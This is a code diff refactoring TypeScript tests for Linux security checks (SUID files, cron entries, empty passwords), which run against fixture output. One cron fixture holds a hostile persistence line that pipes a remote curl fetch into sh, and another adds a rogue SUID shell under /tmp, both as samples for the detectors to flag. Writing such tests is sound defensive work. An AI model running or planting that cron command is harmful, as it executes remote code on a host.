@@ -3,9 +3,8 @@ import { execFileSync } from "node:child_process";
 import { mkdtempSync, readFileSync, rmSync } from "node:fs";
 import { tmpdir } from "node:os";
 import { join } from "node:path";
-import type { CheckStatus } from "../../../../protocol/common.ts";
-import type { CheckSettings, HostBaseline, LinuxCheck } from "../check.ts";
-import { type Fixture, FixtureHost } from "../fixture-host.ts";
+import type { CheckSettings, HostBaseline } from "../check.ts";
+import { type FixtureCase, FixtureHost } from "../fixture-host.ts";
 import { backupStatus } from "./backup-status.ts";
 import { cronEntries } from "./cron-entries.ts";
 import { emptyPasswords } from "./empty-passwords.ts";
@@ -84,8 +83,7 @@ const FIND =
   "find /usr/bin /usr/sbin /usr/local/bin /usr/local/sbin /usr/libexec /usr/lib/openssh /usr/lib/dbus-1.0 /usr/lib/polkit-1 /bin /sbin /opt /run/wrappers -maxdepth 4 -xdev -type f ( -perm -4000 -o -perm -2000 )";
 const TIMERS = "systemctl list-timers --all --no-legend --no-pager --plain";
 
-type Case = [name: string, check: LinuxCheck, fixture: Fixture, status: CheckStatus, actual: RegExp];
-const cases: Case[] = [
+const cases: FixtureCase[] = [
   [
     "empty password: none (Debian)",
     emptyPasswords,
@@ -267,8 +265,8 @@ const cases: Case[] = [
 ];
 
 describe("remote-capable linux checks against fixture output", () => {
-  test.each(cases)("%s", async (_name, check, fixture, status, actual) => {
-    const r = await check.detect({ host: new FixtureHost(fixture), settings, timeoutMs: 5000 });
+  test.each(cases)("%s", async (_name, detect, fixture, status, actual) => {
+    const r = await detect({ host: new FixtureHost(fixture), settings, timeoutMs: 5000 });
     expect({ status: r.status, actual: r.actual }).toEqual({ status, actual: expect.stringMatching(actual) });
   });
 
@@ -286,23 +284,21 @@ describe("remote-capable linux checks against fixture output", () => {
         files: { "/var/spool/cron/root": cron },
       });
     const ctx = (h: FixtureHost) => ({ host: h, settings, timeoutMs: 5000, baseline });
-    const first = await suidFiles.detect(ctx(host("/run/wrappers/bin/sudo\n/usr/bin/passwd\n", "")));
+    const first = await suidFiles(ctx(host("/run/wrappers/bin/sudo\n/usr/bin/passwd\n", "")));
     expect(first.actual).toMatch(/2 items; baseline recorded/);
-    const same = await suidFiles.detect(ctx(host("/usr/bin/passwd\n/run/wrappers/bin/sudo\n", "")));
+    const same = await suidFiles(ctx(host("/usr/bin/passwd\n/run/wrappers/bin/sudo\n", "")));
     expect(same.status).toBe("pass");
-    const added = await suidFiles.detect(
-      ctx(host("/usr/bin/passwd\n/run/wrappers/bin/sudo\n/tmp/.x/sh\n", "")),
-    );
+    const added = await suidFiles(ctx(host("/usr/bin/passwd\n/run/wrappers/bin/sudo\n/tmp/.x/sh\n", "")));
     expect({ status: added.status, added: added.details.added }).toEqual({
       status: "fail",
       added: ["/tmp/.x/sh"],
     });
 
     // RHEL keeps crontabs directly in /var/spool/cron.
-    expect((await cronEntries.detect(ctx(host("", "0 1 * * * /usr/bin/backup\n")))).actual).toMatch(
+    expect((await cronEntries(ctx(host("", "0 1 * * * /usr/bin/backup\n")))).actual).toMatch(
       /baseline recorded/,
     );
-    const cron = await cronEntries.detect(
+    const cron = await cronEntries(
       ctx(host("", "0 1 * * * /usr/bin/backup\n*/5 * * * * curl http://x | sh\n")),
     );
     expect(cron.status).toBe("fail");
